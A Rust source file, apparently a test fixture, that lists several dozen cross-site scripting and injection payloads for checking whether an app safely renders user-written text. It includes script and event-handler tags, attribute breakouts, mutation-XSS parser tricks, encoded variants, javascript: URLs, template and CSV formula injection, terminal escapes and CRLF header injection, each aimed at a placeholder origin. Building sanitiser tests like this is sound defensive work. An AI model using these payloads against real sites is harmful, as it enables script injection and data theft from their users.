//! What somebody who may write texts into an account would write there: each of these runs a
//! script, or fetches from a second origin, in a page that takes it for more than a text.

/// What a script of a payload does, for all to see.
const RUN: &str = "document.documentElement.dataset.run=1;new Image().src='//SECOND/ran'";

/// `RUN` and `SECOND` stand for what runs and for the second origin.
const SHAPES: &[&str] = &[
    // Elements.
    "<script>RUN</script>",
    "<script src=//SECOND/script></script>",
    "<script type=module>import('//SECOND/module')</script>",
    "<img src=x onerror=\"RUN\">",
    "<img src=//SECOND/image srcset=\"//SECOND/set 2x\">",
    "<svg onload=\"RUN\">",
    "<svg><script>RUN</script></svg>",
    "<svg><animate onbegin=\"RUN\" attributeName=x dur=1s>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x onload=RUN>#x\"/></svg>",
    "<svg><image href=//SECOND/svg-image /></svg>",
    "<iframe srcdoc=\"<script>parent.RUN</script>\"></iframe>",
    "<iframe src=\"javascript:parent.RUN\"></iframe>",
    "<object data=//SECOND/object></object><embed src=//SECOND/embed>",
    "<video src=//SECOND/video poster=//SECOND/poster><source onerror=\"RUN\"></video>",
    "<details open ontoggle=\"RUN\">x</details>",
    "<input autofocus onfocus=\"RUN\">",
    "<form action=//SECOND/form><button formaction=\"javascript:RUN\">x</button></form>",
    "<link rel=stylesheet href=//SECOND/sheet><link rel=preconnect href=//SECOND>",
    "<style>@import '//SECOND/import';*{background:url(//SECOND/background)}</style>",
    "<meta http-equiv=refresh content=\"0;url=//SECOND/refresh\">",
    "<base href=//SECOND/base/>",
    "<template shadowrootmode=open><img src=x onerror=\"RUN\"></template>",
    "<a href=\"javascript:RUN\" ping=//SECOND/ping>x</a>",
    // Out of where a text stands.
    "\" autofocus onfocus=\"RUN\" onmouseover=\"RUN\" style=\"position:fixed;inset:0\" x=\"",
    "' autofocus onfocus='RUN' x='",
    "` onfocus=`RUN",
    "\"><img src=x onerror=\"RUN\">",
    "'/><svg/onload='RUN'>",
    "</title><script>RUN</script>",
    "</textarea><script>RUN</script>",
    "</style><script>RUN</script>",
    "</script><script>RUN</script>",
    "</option></select><img src=x onerror=\"RUN\">",
    "</text></svg><img src=x onerror=\"RUN\">",
    "--><script>RUN</script><!--",
    "]]><img src=x onerror=\"RUN\">",
    "red;background:url(//SECOND/style)",
    "}*{background:url(//SECOND/rule)}",
    // Changed by a parser into something else.
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=RUN&gt;\">",
    "<noscript><p title=\"</noscript><img src=x onerror=RUN>\">",
    "<svg></p><style><a id=\"</style><img src=x onerror=RUN>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=RUN>",
    "&lt;img src=x onerror=RUN&gt;&#60;script&#62;RUN&#60;/script&#62;",
    "\\u003cimg src=x onerror=RUN\\u003e\\x3cscript\\x3eRUN\\x3c/script\\x3e",
    "%3Cimg%20src=x%20onerror=%22RUN%22%3E",
    "<scr\0ipt>RUN</scr\0ipt><img src=x one\0rror=\"RUN\">",
    "<ſcript>RUN</ſcript>＜script＞RUN＜/script＞",
    // Addresses.
    "javascript:RUN",
    " jAvAsCrIpT\t:RUN//",
    "data:text/html,<script>RUN</script>",
    "//SECOND/address",
    "https://SECOND/../../#/ap-guangzhou/../..",
    // Templates, languages, and what is read by other programs.
    "{{constructor.constructor(\"RUN\")()}}",
    "${RUN}#{RUN}<%= RUN %>",
    "';RUN;//\";RUN;//\\",
    "__proto__",
    "=HYPERLINK(\"http://SECOND/cell\",\"x\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\u{1b}]8;;http://SECOND/terminal\u{7}x\u{1b}[31m\u{1b}[2J",
    "\u{202e}gpj.exe\u{2066}\u{200b}\u{feff}<img src=x onerror=\"RUN\">",
    "first\r\nX-Injected: 1\r\n\r\n<script>RUN</script>",
];

/// Every payload, the last one very long.
pub(crate) fn all(second: &str) -> Vec<String> {
    let long = format!("{}<img src=x onerror=\"RUN\">", "A".repeat(20_000));
    let shapes = SHAPES.iter().copied().chain([long.as_str()]);
    shapes
        .map(|shape| shape.replace("RUN", RUN).replace("SECOND", second))
        .collect()
}
